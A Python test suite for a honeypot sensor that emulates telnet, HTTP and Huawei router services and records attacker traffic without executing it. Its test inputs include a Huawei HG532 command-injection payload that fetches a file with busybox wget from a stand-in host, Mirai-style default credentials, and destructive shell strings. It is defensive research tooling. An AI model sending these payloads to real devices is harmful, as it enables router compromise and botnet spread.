"""The sensor's config, event files and responders, in process on 127.0.0.1."""

from __future__ import annotations

import asyncio
import base64
import json
import socket
from pathlib import Path

import pytest

from teiten.capture.events import read_events, sniff_events
from teiten.config import load_settings
from teiten.enrich.country import CountryEnricher
from teiten.enrich.network import NetworkSet
from teiten.enrich.sources import open_country_source
from teiten.errors import ConfigError
from teiten.pipeline.sessions import SessionStage, session_tables
from teiten.sensor.config import EXAMPLE, Limits, describe, load_config, parse_config
from teiten.sensor.events import Event, EventWriter
from teiten.sensor.service import Sensor
from teiten.sensor.telnet import answer, take_line

HOST = "127.0.0.1"


def _config(extra: str = "", responders: str = "") -> str:
    blocks = responders or '[[responder]]\nkind = "http"\nlisten = ["127.0.0.1:8080"]\n'
    return f'[sensor]\nname = "t"\ndata = "d"\nspool = "s"\n{extra}\n{blocks}'


def _parse(text: str, tmp_path: Path) -> object:
    f = tmp_path / "s.toml"
    f.write_text(text)
    return load_config(f)


def test_example_config_is_accepted(tmp_path: Path) -> None:
    config = _parse(EXAMPLE, tmp_path)
    lines = describe(config)  # type: ignore[arg-type]
    assert "upnp-realtek: listens on 127.0.0.1:52869 (TCP)" in lines
    assert not any("warning" in line for line in lines)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (_config('colour = "red"'), "sensor: unknown key 'colour'"),
        (_config(responders='[[responder]]\nkind = "ssh"\nlisten = ["127.0.0.1:22"]\n'),
         "unknown kind 'ssh'"),
        (_config(responders='[[responder]]\nkind = "http"\nlisten = ["999.1.1.1:80"]\n'),
         "is not an IP address"),
        (_config(responders='[[responder]]\nkind = "http"\nlisten = ["127.0.0.1:70000"]\n'),
         "port must be 1-65535"),
        (_config(responders='[[responder]]\nkind = "http"\nlisten = ["::1:80"]\n'),
         "expected ADDRESS:PORT"),
        (_config(responders='[[responder]]\nkind = "http"\nlisten = ["127.0.0.1:80"]\n'
                 '[[responder]]\nkind = "telnet"\nlisten = ["127.0.0.1:80"]\n'),
         "127.0.0.1:80 is already used by responder 1 (http)"),
        (_config('networks = ["300.1.2.0/24"]'), "is not a network"),
        (_config("max_bytes = -1"), "sensor.max_bytes: a positive integer"),
        (_config('metrics = "192.0.2.1:9108"'), "must be a loopback address"),
        (_config('metrics = "127.0.0.1:8080"'), "127.0.0.1:8080 is already used"),
        (_config(responders='[[responder]]\nkind = "http"\nport = 80\n'), "unknown key 'port'"),
        ('[sensor]\nname = "t"\n', "sensor.data: a non-empty string"),
        (_config() + "[capture]\nmode = 1\n", "capture: unknown key 'mode'"),
        ("[sensor\n", "sensor config"),
        (_config("detect_interval = -5"), "sensor.detect_interval (0 = off)"),
        (_config("detect_interval = true"), "sensor.detect_interval (0 = off)"),
        (_config('group = "nogroup"'), "sensor.group: needs sensor.user"),
        (_config("user = 0"), "sensor.user: a non-empty string"),
    ],
)  # fmt: skip
def test_config_mistakes_are_one_line(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(ConfigError) as e:
        _parse(text, tmp_path)
    assert message in str(e.value) and "\n" not in str(e.value)


def test_capture_table_is_described_and_checked(tmp_path: Path) -> None:
    config = _parse(_config() + '[capture]\ninterface = "lo"\nfilter = "tcp"\n', tmp_path)
    text = "\n".join(describe(config))  # type: ignore[arg-type]
    assert "capture: lo, 'tcp' (" in text and "CAP_NET_RAW" in text
    assert "not yet supported" not in text
    missing = _parse(_config() + '[capture]\ninterface = "no-such-if0"\n', tmp_path)
    with pytest.raises(ConfigError, match="no such network interface"):
        describe(missing)  # type: ignore[arg-type]


def test_ipv6_listen_and_limits() -> None:
    doc = {"sensor": {"name": "t", "data": "d", "spool": "s", "idle_timeout": 2.5,
                      "max_per_source": 4},
           "responder": [{"kind": "telnet", "listen": ["[::1]:2323"]}]}  # fmt: skip
    config = parse_config(doc)
    assert str(config.responders[0].listen[0]) == "[::1]:2323"
    assert config.limits == Limits(idle_timeout=2.5, max_per_source=4)


def _event(n: int, client: bytes = b"x", src: str = "198.51.100.7") -> Event:
    return Event("t", "blackhole", src, 40000 + n, "203.0.113.5", 7547, 10**18, 10**18 + 5,
                 client, len(client), b"", "closed")  # fmt: skip


def test_event_files_rotate_atomically(tmp_path: Path) -> None:
    w = EventWriter(tmp_path / "events", "t")
    assert w.rotate() is None  # nothing written: no file
    for n in range(3):
        w.write(_event(n))
    assert [p.name.startswith(".") for p in (tmp_path / "events").iterdir()] == [True]
    closed = w.rotate()
    assert closed is not None and closed.suffix == ".jsonl"
    assert not list((tmp_path / "events").glob(".*"))
    assert len(closed.read_bytes().splitlines()) == 3 and sniff_events(closed)
    big = _event(9, bytes(range(256)) * 4096)  # 1 MiB of client bytes
    line = big.line()
    assert len(line) < 128 << 10 and json.loads(line)["truncated"] is True


def test_crashed_file_is_recovered(tmp_path: Path) -> None:
    (tmp_path / ".t-1.tmp").write_bytes(_event(1).line())  # what a crash leaves
    (tmp_path / ".t-2.tmp").write_bytes(b"")
    recovered = EventWriter(tmp_path, "t").recover()
    assert recovered == [tmp_path / "t-1.jsonl"] and sorted(tmp_path.iterdir()) == recovered


def test_event_reader_counts_bad_lines(tmp_path: Path) -> None:
    good = _event(1, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").line()
    own = _event(2, src="192.0.2.9").line()
    wrong = json.loads(good)
    wrong["client"] = "%%%"
    f = tmp_path / "e.jsonl"
    f.write_bytes(good + own + b"{broken\n" + json.dumps(wrong).encode() + b"\n[1]\n")
    enricher = CountryEnricher(open_country_source("iptocc"))
    read = read_events(f)
    stage = SessionStage(enricher, 3, NetworkSet(["192.0.2.0/24"]))  # as ingest classifies them
    sessions, _ = stage.tables(read.sessions)
    assert sessions.num_rows == 1 and read.sensor == "t"
    row = sessions.to_pylist()[0]
    assert (row["app"], row["method"], row["dst_port"], row["id"]) == ("http", "GET", 7547, "s3-1")
    assert stage.left_out == {"from_sensor": 1}
    assert read.stats.skipped == {"bad_json": 1, "missing_field": 1, "not_an_event": 1}


def _free_port() -> int:
    with socket.socket() as s:
        s.bind((HOST, 0))
        return int(s.getsockname()[1])


async def _converse(
    tmp_path: Path, kind: str, steps: list[bytes], hold: float = 0.0, **limits: float
) -> tuple[bytes, list[Event]]:
    """Send each step to a fresh responder, read until it closes; its recorded events."""
    port = _free_port()
    doc = {"sensor": {"name": "t", "data": str(tmp_path / "d"), "spool": str(tmp_path / "s"),
                      "idle_timeout": 5, **limits},
           "responder": [{"kind": kind, "listen": [f"{HOST}:{port}"]}]}  # fmt: skip
    sensor = Sensor(parse_config(doc), load_settings(env={}), lambda line: None)
    events: list[Event] = []
    sensor.record = events.append  # type: ignore[method-assign]
    await sensor.listen()
    reader, writer = await asyncio.open_connection(HOST, port)
    out = bytearray()
    try:
        for step in steps:
            writer.write(step)
            await writer.drain()
            await asyncio.sleep(0.05)
        await asyncio.sleep(hold)
        writer.write_eof()
        while chunk := await reader.read(65536):
            out += chunk
    except ConnectionError:  # the sensor cut the connection (a limit)
        pass
    writer.close()
    for server in sensor.servers:
        server.close()
    while sensor.tasks or not events:
        await asyncio.sleep(0.01)
    return bytes(out), events


def test_huawei_digest_challenge_then_accept(tmp_path: Path) -> None:
    body = (
        b"<s:Envelope><NewStatusURL>$(/bin/busybox wget -g 198.51.100.62 -l /tmp/x)</NewStatusURL>"
    )
    head = f"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: {len(body)}\r\n"
    first, _ = asyncio.run(_converse(tmp_path, "huawei-hg532", [head.encode() + b"\r\n" + body]))
    assert first.startswith(b"HTTP/1.1 401") and b'WWW-Authenticate: Digest realm="Huawei' in first
    auth = head + 'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway"\r\n'
    second, events = asyncio.run(
        _converse(tmp_path, "huawei-hg532", [auth.encode() + b"\r\n" + body])
    )
    assert second.startswith(b"HTTP/1.1 200 OK") and b"UpgradeResponse" in second
    assert events[0].client.endswith(body) and events[0].end == "closed"


def test_telnet_prompts_records_and_never_runs(tmp_path: Path) -> None:
    options = b"\xff\xfc\x01\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
    steps = [options, b"root\r\n", b"xc3511\r\n", b"admin\r\n", b"admin\r\n",
             b"/bin/busybox ECCHI\r\n", b"echo hi; uname\r\n"]  # fmt: skip
    out, events = asyncio.run(_converse(tmp_path, "telnet", steps))
    assert out.count(b"login: ") == 2 and b"Password: " in out and b"Login incorrect" in out
    assert b"ECCHI: applet not found" in out and b"hi\r\nLinux\r\n" in out
    assert events[0].client == b"".join(steps)
    line = json.loads(events[0].line())
    assert base64.b64decode(line["server"]) == out


def test_telnet_lines_and_answers() -> None:
    buf = bytearray(b"\xff\xfb\x1fad\xff\xfa\x1f\x00\x0a\xff\xf0min\r\nrest")
    assert take_line(buf, 100) == b"admin" and bytes(buf) == b"\nrest"
    assert take_line(bytearray(b"no end"), 100) is None
    assert answer("rm -rf /; reboot") == b""  # canned: nothing runs, the text is not parsed
    assert answer("$(curl x)") == b"-sh: $(curl: not found\r\n"


def test_cli_example_check_and_one_line_errors(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from teiten.cli.main import cli

    runner = CliRunner()
    example = runner.invoke(cli, ["sensor", "example-config"])
    assert example.exit_code == 0
    good = tmp_path / "good.toml"
    good.write_text(example.output.replace("127.0.0.1:2323", "127.0.0.1:23"))
    check = runner.invoke(cli, ["sensor", "check", "--config", str(good)])
    assert check.exit_code == 0, check.output
    assert "telnet: listens on 127.0.0.1:23 (TCP)" in check.output
    assert "CAP_NET_BIND_SERVICE" in check.output
    bad = tmp_path / "bad.toml"
    bad.write_text(example.output.replace('kind = "blackhole"', 'kind = "black\\u001b[2Jhole"'))
    for args in (["--config", str(bad)], ["--config", str(tmp_path / "missing.toml")]):
        result = runner.invoke(cli, ["sensor", "check", *args])
        assert result.exit_code == 1 and len(result.output.strip().splitlines()) == 1
        assert "\x1b" not in result.output and "Traceback" not in result.output


def test_idle_total_and_byte_limits_end_connections(tmp_path: Path) -> None:
    _, idle = asyncio.run(_converse(tmp_path, "http", [b"GET / HT"], 2.0, idle_timeout=0.2))
    assert idle[0].end == "idle" and idle[0].client == b"GET / HT"
    drip = [b"x"] * 40  # a byte every 50 ms: never idle, stopped by the total timeout
    _, total = asyncio.run(_converse(tmp_path, "blackhole", drip, total_timeout=0.5))
    assert total[0].end == "total" and 0 < total[0].client_total < 40
    _, big = asyncio.run(_converse(tmp_path, "blackhole", [b"y" * 5000], max_bytes=1000))
    assert big[0].end == "bytes" and big[0].client_total == 1000


def test_event_reader_ipv6(tmp_path: Path) -> None:
    f = tmp_path / "e.jsonl"
    e = _event(1, b"\xff\xfb\x1froot\r\nxc3511\r\nsh\r\n", src="2001:db8::7")
    e.dst, e.dst_port = "2001:db8::1", 23
    f.write_bytes(e.line())
    enricher = CountryEnricher(open_country_source("iptocc"))
    sessions, logins = session_tables(read_events(f).sessions, enricher)
    row = sessions.to_pylist()[0]
    assert row["ip_version"] == 6 and row["app"] == "telnet"
    assert [(x["username"], x["password"]) for x in logins.to_pylist()] == [("root", "xc3511")]


def test_http_any_request_and_expect_continue(tmp_path: Path) -> None:
    head = b"POST /cgi-bin/luci HTTP/1.1\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\n"
    out, events = asyncio.run(_converse(tmp_path, "http", [head, b"a=1"]))
    assert out.startswith(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK") and b"It works" in out
    assert events[0].client == head + b"a=1" and events[0].server == out


def test_metrics_text() -> None:
    from teiten.sensor.health import Health
    from teiten.sensor.metrics import render

    health = Health(connections=3, events=3)
    health.dropped["max_per_source"] = 2
    text = render(health, 1).decode()
    assert "teiten_sensor_connections_total 3\n" in text
    assert 'teiten_sensor_dropped_total{reason="max_per_source"} 2\n' in text
    assert "# TYPE teiten_sensor_open_connections gauge\nteiten_sensor_open_connections 1" in text


def test_a_failing_responder_is_recorded_not_fatal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from teiten.sensor import service
    from teiten.sensor.responder import Conversation

    class Broken:
        kind = "blackhole"

        async def converse(self, conn: Conversation) -> None:
            await conn.read()
            raise ValueError("a bug")

    monkeypatch.setitem(service.RESPONDERS, "blackhole", Broken)
    _, events = asyncio.run(_converse(tmp_path, "blackhole", [b"boom"]))
    assert events[0].end == "bug" and events[0].client == b"boom"


def test_detect_interval_default_off_and_inbox(tmp_path: Path) -> None:
    default = _parse(_config(), tmp_path)
    assert default.detect_interval == 300.0  # type: ignore[attr-defined]
    assert default.captures_dir == tmp_path / "s" / "captures"  # type: ignore[attr-defined]
    off = _parse(_config("detect_interval = 0"), tmp_path)
    assert off.detect_interval == 0.0  # type: ignore[attr-defined]
    assert "no scheduled detection" in describe(off)[0]  # type: ignore[arg-type]
    assert "detect every 2.5 s" in describe(_parse(_config("detect_interval = 2.5"), tmp_path))[0]  # type: ignore[arg-type]


def test_status_from_the_spool_when_the_sensor_is_down(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from teiten.cli.main import cli
    from teiten.sensor.status import read_metrics, sensor_status

    port = _free_port()
    f = tmp_path / "s.toml"
    f.write_text(_config(f'metrics = "127.0.0.1:{port}"'))
    config = load_config(f)
    assert read_metrics(config.metrics) is None  # type: ignore[arg-type]  # nothing listens
    (tmp_path / "s" / "events" / "ingested").mkdir(parents=True)
    (tmp_path / "s" / "captures").mkdir()
    (tmp_path / "s" / "events" / "a.jsonl").write_bytes(b"")
    (tmp_path / "s" / "events" / "ingested" / "b.jsonl").write_bytes(b"")
    (tmp_path / "s" / "captures" / "c.pcap").write_bytes(b"")
    (tmp_path / "s" / "captures" / ".d.pcap.tmp").write_bytes(b"")  # not closed yet
    (tmp_path / "s" / "captures" / "notes.txt").write_bytes(b"")  # not a capture
    (tmp_path / "s" / "state.json").write_text('{"last_ingest": 1764915000, "detections": 4}')
    status = sensor_status(config)
    assert status["running"] is False and status["source"] == "spool"
    assert (status["events_waiting"], status["captures_waiting"]) == (1, 1)
    assert status["files_ingested"] == 1 and status["files_failed"] == 0
    assert status["last_ingest"] == "2025-12-05T06:10:00+00:00"
    assert status["last_detection"] == "" and status["detections"] == 4
    assert status["alerts_open"] == 0
    (tmp_path / "s" / "state.json").write_bytes(b"\x1b[2J not json")  # damaged: ignored
    assert sensor_status(config)["last_ingest"] == ""
    result = CliRunner().invoke(cli, ["sensor", "status", "--config", str(f), "--format", "json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)[0]["events_waiting"] == 1
    table = CliRunner().invoke(cli, ["sensor", "status", "--config", str(f)])
    assert table.exit_code == 0 and "captures_waiting" in table.output


def test_detection_error_is_one_line_and_retried(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from teiten.sensor import service

    def broken(settings: object) -> None:
        raise RuntimeError("catalog exploded\nsecond line")

    monkeypatch.setattr(service, "run_detection", broken)
    doc = {"sensor": {"name": "t", "data": str(tmp_path / "d"), "spool": str(tmp_path / "s")},
           "responder": [{"kind": "http", "listen": [f"{HOST}:{_free_port()}"]}]}  # fmt: skip
    lines: list[str] = []
    sensor = Sensor(parse_config(doc), load_settings(env={}), lines.append)
    sensor.writer.recover()  # as a run starts: the spool exists
    sensor.detect_due = True
    asyncio.run(sensor.round(detect=True))
    assert lines == ["detection failed, will retry: RuntimeError: catalog exploded"]
    assert sensor.health.detections_failed == 1 and sensor.detect_due  # tried again next round
    state = json.loads((tmp_path / "s" / "state.json").read_text())
    assert state["detections_failed"] == 1 and state["last_detection"] == 0


@pytest.mark.parametrize(("interval", "runs"), [(0, 0), (3600, 1)])
def test_detection_schedule(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, interval: int, runs: int
) -> None:
    from teiten.app.detect import DetectionResult
    from teiten.sensor import service

    calls: list[object] = []

    def fake(settings: object) -> DetectionResult:
        calls.append(settings)
        return DetectionResult([], [], 0, None)

    monkeypatch.setattr(service, "run_detection", fake)
    doc = {"sensor": {"name": "t", "data": str(tmp_path / "d"), "spool": str(tmp_path / "s"),
                      "detect_interval": interval},
           "responder": [{"kind": "http", "listen": [f"{HOST}:{_free_port()}"]}]}  # fmt: skip
    sensor = Sensor(parse_config(doc), load_settings(env={}), lambda line: None)
    sensor.writer.recover()
    for _ in range(3):  # something new each round; one run per interval at most
        sensor.detect_due = True
        asyncio.run(sensor.round())
    sensor.detect_due = False
    asyncio.run(sensor.round())
    assert len(calls) == runs and sensor.health.detections == runs


def test_privilege_identity_and_refusals(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    from teiten.sensor import privilege

    config = _parse(_config('user = "nobody"'), tmp_path)
    assert config.user == "nobody" and config.group is None  # type: ignore[attr-defined]
    assert any("switches to nobody" in x for x in describe(config))  # type: ignore[arg-type]
    nobody = privilege.resolve("nobody")
    assert nobody.uid > 0 and nobody.user == "nobody"
    for user, group, message in [
        ("no-such-user-x", None, "sensor.user: no such user 'no-such-user-x'"),
        ("nobody", "no-such-group-x", "sensor.group: no such group 'no-such-group-x'"),
    ]:
        with pytest.raises(ConfigError, match=message):
            privilege.resolve(user, group)
    # Not root: switching is refused in one line unless the process already is that user.
    monkeypatch.setattr(privilege.os, "geteuid", lambda: 4321)
    monkeypatch.setattr(privilege.os, "getegid", lambda: 4321)
    with pytest.raises(ConfigError) as e:
        privilege.drop_privileges(nobody)
    assert "switching user needs root; running as uid 4321" in str(e.value)
    privilege.drop_privileges(privilege.Identity("me", 4321, 4321))  # already it: no change
    monkeypatch.undo()
    privilege.check_writable([tmp_path / "spool" / "events"])
    assert (tmp_path / "spool" / "events").is_dir() and not os.listdir(tmp_path / "spool/events")
    blocked = tmp_path / "file"
    blocked.write_text("")
    with pytest.raises(ConfigError, match="not writable by uid"):
        privilege.check_writable([blocked / "events"])
